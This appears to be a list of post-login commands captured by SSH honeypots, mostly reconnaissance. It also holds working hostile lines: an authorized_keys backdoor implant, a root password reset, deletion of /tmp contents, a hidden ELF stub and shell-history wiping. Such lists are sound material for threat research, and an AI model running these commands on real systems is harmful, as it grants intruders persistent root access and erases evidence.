# What scripted intruders run, a command a line, without what fetches: that waits for its own reasons.
# SOURCE: Cowrie logs of 2021 to 2024 in student notes and public issues (cowrie #1102, #1512); a key implant's checks, published widely.
cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1 mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~
cat /proc/cpuinfo | grep name | wc -l
echo "root:gkgV6sWvx4c2"|chpasswd|bash
cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'
free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'
ls -lh $(which ls)
which ls
crontab -l
w
uname -m
cat /proc/cpuinfo | grep model | grep name | wc -l
top -bn1 | head -5
uname
uname -a
whoami
lscpu | grep Model
df -h | head -n 2 | awk 'FNR == 2 {print $2;}'
if [ $(uname -m) == "x86_64" ]; then if [ $(ls /home/) == "richard" ]; then echo "" >/dev/null; else echo "GOTCHA"; fi; fi
cd /tmp || cd /var/ || cd /var/run || cd /mnt || cd /root || cd /; rm -rf i; echo -e '\x63\x6F\x6E\x6E\x65\x63\x74\x65\x64'
cd /tmp;rm -rf /tmp/* || cd /var/run || cd /mnt || cd /root; rm -rf bins.sh
echo -ne '\x7f\x45\x4c\x46\x02\x01\x01\x00' > /tmp/.x; echo -ne '\x02\x00\x3e\x00' >> /tmp/.x; chmod 777 /tmp/.x; cat /tmp/.x | wc -c
ps aux | grep -v grep | grep ssh
ls /home
/bin/busybox ZONESEC
export HISTFILE=/dev/null; history -c; unset HISTFILE
for i in 1 2 3 4 5 6 7 8 9 10; do echo $i > /tmp/t; done; cat /tmp/t
